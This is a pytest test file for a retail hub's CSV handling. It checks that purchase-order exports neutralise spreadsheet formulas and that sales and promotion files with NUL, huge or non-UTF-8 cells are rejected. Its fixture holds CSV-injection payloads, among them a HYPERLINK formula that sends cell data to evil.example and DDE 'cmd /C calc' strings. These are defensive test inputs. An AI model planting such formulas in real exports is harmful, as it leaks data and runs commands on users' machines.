"""Hostile CSV: a purchase order exported for a spreadsheet runs no formula; a sales or promotion file with NUL,
huge or broken cells is refused with its line and column, never a crash (issue 16, part 8)."""

from __future__ import annotations

import csv
import io
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from comptoir.contract import gtin14
from hub.csv_cells import spreadsheet_safe
from hub.forecast.demand import DemandError, read_long_csv
from hub.forecast.promotions import PromotionError
from hub.forecast.promotions import read_csv as read_promotions
from tests.conftest import BrokerHandle
from tests.hub.support import FLOUR, NUTELLA, OIL, HubProcess, comptoir, json_of

FORMULAS = {
    NUTELLA: ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"),
    OIL: ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    FLOUR: ("=cmd|' /C calc'!A0", "@evil"),
}


@pytest.fixture(scope="module")
def hub(broker: BrokerHandle, tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubProcess]:
    """A hub whose catalog (from a supplier's file) holds formula-shaped names and suppliers, one order approved."""
    process = HubProcess(Path(tmp_path_factory.mktemp("hub-csv")), broker.url)
    process.prepare()
    catalog = process.workdir / "hostile-catalog.csv"
    with catalog.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["gtin", "name", "brand", "category", "price_eur", "unit_weight_g", "aisle", "shelf",
                         "pack_size", "supplier", "lead_time_days"])
        for gtin, (name, supplier) in FORMULAS.items():
            writer.writerow([gtin, name, "Marque", "épicerie", "1.00", "100", "A1", "S1", "1", supplier, "3"])
    done = comptoir("hub", "--config", str(process.config_path), "import-catalog", str(catalog))
    assert done.returncode == 0, done.stderr
    with sqlite3.connect(process.db_path) as db:
        run = db.execute("INSERT INTO forecast_runs (started, seconds, series, horizon) VALUES (?, 0, 3, 28)",
                         (time.time(),)).lastrowid
        for gtin, (_, supplier) in FORMULAS.items():
            db.execute("INSERT INTO reorder_suggestions (run_id, gtin, supplier, created, state, suggested_quantity, "
                       "quantity, pack_size, order_by, reason, on_order, reserved) "
                       "VALUES (?, ?, ?, ?, 'approved', 4, 4, 1, '2030-01-01', 'test', 0, 0)",
                       (run, gtin14(gtin), supplier, time.time()))
    process.start()
    try:
        yield process
    finally:
        process.stop()


def test_the_purchase_order_csv_runs_no_formula_in_a_spreadsheet(hub: HubProcess) -> None:
    marie = hub.client()
    orders = json_of(marie.post("/api/purchase-orders"))
    assert len(orders) == 3
    seen = 0
    for order in orders:
        answer = marie.get(f"/api/purchase-orders/{order['id']}/csv")
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(answer.text)))
        assert rows[0] == ["order", "supplier", "gtin", "name", "quantity", "pack_size", "packs"]
        for row in rows[1:]:
            name, supplier = FORMULAS[row[2][1:]]  # GTIN-14 of the test's GTIN-13
            # what a spreadsheet reads starts with an apostrophe (text); the rest is the value, unchanged
            assert row[3] == "'" + name and row[1] == "'" + supplier
            assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
            assert row[4:] == ["4", "1", "4"]  # numbers stay numbers
            seen += 1
    assert seen == 3


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_of_owasp_is_neutralised(start: str) -> None:
    # the catalog import strips spaces around a value, so a leading tab or CR is checked here, on the cell itself
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("Farine =T55") == "Farine =T55" and spreadsheet_safe(-3) == -3


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", newline="")
    return path


@pytest.mark.parametrize(("reader", "error", "header"), [
    (read_long_csv, DemandError, "unique_id,ds,y"),
    (read_promotions, PromotionError, "unique_id,first_day,last_day"),
])
def test_sales_and_promotion_files_refuse_nul_huge_and_broken_cells(tmp_path: Path, reader, error, header) -> None:
    good = "sku-1,2026-01-01,2026-01-02" if "first_day" in header else "sku-1,2026-01-01,3"
    cases = {
        "nul": (f"{header}\n{good}\nsku\x00-2,2026-01-02,1\n", "line 3: column unique_id: contains a NUL character"),
        "huge": (f"{header}\n{good}\n{'x' * 5000},2026-01-02,1\n", "line 3: column unique_id: is longer than 1000"),
        "over the csv limit": (f"{header}\n{good}\n\"{'y' * 200_000}\",2026-01-02,1\n", "unreadable CSV"),
        "not utf-8": (None, ":3: not UTF-8"),
    }
    for name, (text, expected) in cases.items():
        path = tmp_path / f"{name}.csv"
        if text is None:
            path.write_bytes(f"{header}\n{good}\n".encode() + b"sku-\xff\xfe,2026-01-02,1\n")
        else:
            write(path, text)
        with pytest.raises(error) as caught:
            reader(path)
        assert expected in str(caught.value) and str(path) in str(caught.value), (name, str(caught.value))
    assert reader(write(tmp_path / "fine.csv", f"{header}\n{good}\n"))
